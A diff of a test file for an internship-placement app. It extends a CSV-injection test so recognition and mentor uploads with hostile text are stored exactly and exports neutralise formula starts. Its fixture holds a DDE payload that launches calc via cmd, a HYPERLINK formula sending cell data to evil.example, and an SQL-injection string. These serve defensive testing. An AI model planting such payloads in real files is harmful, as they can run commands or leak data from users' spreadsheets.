@@ -1,9 +1,23 @@
 // Formula-looking text in an otherwise valid upload is stored exactly as written (docs/uploads:
 // "stored rather than refused") and never evaluated; every CSV export then neutralises formula
 // starts. The one CSV writer is figuresToCsv (GET /runs/:id/figures?format=csv and `stagebrug figures --csv`).
+// Every upload kind is here: placement list, place registration, recognition and mentor file. The
+// recognitions and mentors feed the figures as counts only; no export writes their text.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { kbo, openWorld, type World } from '../../apps/api/test/support/world.js'
-import { csv, PLACE_HEADER, place, pupil, STUDENT_HEADER, table, utf8 } from '../support/upload-files.js'
+import {
+  csv,
+  MENTOR_HEADER,
+  mentor,
+  PLACE_HEADER,
+  place,
+  pupil,
+  RECOGNITION_HEADER,
+  recognition,
+  STUDENT_HEADER,
+  table,
+  utf8,
+} from '../support/upload-files.js'
 import { fileUpload } from './multipart.js'
 
 const EVIL = {
@@ -14,6 +28,9 @@ const EVIL = {
   sql: "Robert'); DROP TABLE student;--",
   phone: '+32 11 22 33 44',
   link: '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+  mentorName: "=2+5*cmd|' /C calc'!A0",
+  mentorFunction: '@Magazijn',
+  reference: '-ERK+1',
 }
 
 /** The cells of a `;` CSV as a spreadsheet reads them: quotes removed, `""` as `"`. */
@@ -52,7 +69,7 @@ describe('formula-looking text: stored as written, neutralised in every CSV expo
   })
   afterAll(() => w?.close())
 
-  it('stores a placement list and a registration with formula and SQL text exactly, and exports no cell a spreadsheet would run', async () => {
+  it('stores a placement list, a registration, a recognition and a mentor file with formula and SQL text exactly, and exports no cell a spreadsheet would run', async () => {
     const list = table(STUDENT_HEADER, [
       pupil(EVIL.stamboeknummer, {
         instellingsnummer: '3004',
@@ -116,6 +133,54 @@ describe('formula-looking text: stored as written, neutralised in every CSV expo
       .where('id', '=', w.ids.companyY)
       .executeTakeFirstOrThrow()
     expect(company).toEqual({ name: EVIL.klas, contact_name: EVIL.voornaam, contact_phone: EVIL.phone })
+
+    // The company's recognition and mentor files, with formula text in their text columns.
+    const recognitions = await w.call('companyY', {
+      method: 'POST',
+      url: '/company/uploads/recognitions',
+      ...fileUpload(
+        'erkenningen.csv',
+        utf8(
+          csv(
+            table(RECOGNITION_HEADER, [
+              recognition({ ondernemingsnummer: kbo(2), erkenningsnummer: EVIL.reference }),
+            ]),
+          ),
+          true,
+        ),
+      ),
+    })
+    expect([recognitions.statusCode, recognitions.json().counts?.created]).toEqual([200, 1])
+    const mentors = await w.call('companyY', {
+      method: 'POST',
+      url: '/company/uploads/mentors',
+      ...fileUpload(
+        'mentoren.csv',
+        utf8(
+          csv(
+            table(MENTOR_HEADER, [
+              mentor({
+                ondernemingsnummer: kbo(2),
+                naam: EVIL.mentorName,
+                functie: EVIL.mentorFunction,
+                telefoon: EVIL.phone,
+                plaatscodes: 'Y1',
+              }),
+            ]),
+          ),
+          true,
+        ),
+      ),
+    })
+    expect([mentors.statusCode, mentors.json().counts?.created]).toEqual([200, 1])
+    const declared = await w.call('companyY', { url: '/company/recognitions' })
+    expect(declared.json().items.map((r: { reference: string }) => r.reference)).toEqual([EVIL.reference])
+    const mentorRows = await w.db
+      .selectFrom('mentor')
+      .select(['name', 'function', 'phone'])
+      .where('company_id', '=', w.ids.companyY)
+      .execute()
+    expect(mentorRows).toEqual([{ name: EVIL.mentorName, function: EVIL.mentorFunction, phone: EVIL.phone }])
 
     // A night over these students and places, then every CSV export of it, for every reader.
     const night = await w.runNight(true)
